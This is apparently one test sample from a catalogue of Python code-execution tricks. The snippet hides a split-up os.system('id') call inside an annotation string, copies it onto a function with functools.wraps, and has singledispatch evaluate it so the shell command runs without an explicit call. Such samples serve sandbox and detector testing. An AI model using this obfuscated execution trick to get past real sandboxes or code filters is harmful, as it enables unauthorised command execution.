# class: no-call
# mechanism: annotation that is run
# how: wraps copies annotations from the keys of an OptimizeResult (or labels of a series) onto a function, which singledispatch evaluates
# reaches: event os.system
from functools import singledispatch, wraps
from scipy.optimize import OptimizeResult
notes = OptimizeResult()
notes["__anno" + "tations__"] = {"x": "__imp" + "ort__('os').system('id')"}
@singledispatch
def f(x):
    return x
@wraps(notes)
def g(x):
    return x
f.register(g)
